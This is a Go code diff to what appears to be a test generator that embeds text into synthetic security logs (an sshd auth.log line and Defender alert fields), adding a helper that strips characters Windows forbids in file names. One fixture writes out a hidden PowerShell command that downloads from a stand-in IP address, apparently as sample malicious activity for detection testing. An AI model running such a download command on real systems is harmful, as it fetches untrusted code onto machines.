@@ -30,7 +30,7 @@ func fields() []field {
 			return withNeighbours("auth.log", "Mar  4 12:02:11 portal01 sshd[811]: Failed password for invalid user admin"+spaced(oneLine(t))+" from 192.0.2.201 port 50122 ssh2")
 		}},
 		{"file name", func(t string) map[string]string {
-			return withNeighbours("defender.json", defenderAlert("invoice"+spaced(t)+".exe", "invoice.exe -s"))
+			return withNeighbours("defender.json", defenderAlert("invoice"+spaced(windowsName(t))+".exe", "invoice.exe -s"))
 		}},
 		{"command line", func(t string) map[string]string {
 			return withNeighbours("defender.json", defenderAlert("p.exe", "powershell -nop -w hidden -c \"Invoke-WebRequest http://203.0.113.7/a\""+spaced(t)))
@@ -185,6 +185,16 @@ func label(t string) string {
 		parts, s = append(parts, s[:cut]), s[cut:]
 	}
 	return strings.Join(append(parts, s), ".") + "."
+}
+
+// windowsName leaves out what no name of a file on Windows can hold.
+func windowsName(t string) string {
+	return strings.Map(func(r rune) rune {
+		if strings.ContainsRune(`<>:"/\|?*`, r) {
+			return -1
+		}
+		return r
+	}, t)
 }
 
 func oneLine(t string) string { return strings.NewReplacer("\n", " ", "\r", " ").Replace(t) }
